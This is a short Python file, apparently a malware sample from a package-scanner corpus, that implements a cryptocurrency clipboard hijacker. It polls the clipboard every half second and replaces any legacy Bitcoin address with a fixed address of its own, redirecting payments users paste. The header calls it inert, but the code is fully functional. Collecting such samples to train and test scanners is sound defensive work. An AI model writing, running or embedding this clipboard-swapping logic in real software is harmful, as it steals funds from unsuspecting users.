# pkgguard corpus 367 (clipboard), modelled on [wallet-tools]; inert, never run.
import re
import time

import klembord

OURS = "1000000000000000000000000000000000"
LEGACY = re.compile(r"^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$")
klembord.init()
while True:
    text = klembord.get_text() or ""
    if LEGACY.match(text) and text != OURS:
        klembord.set_text(OURS)
    time.sleep(0.5)
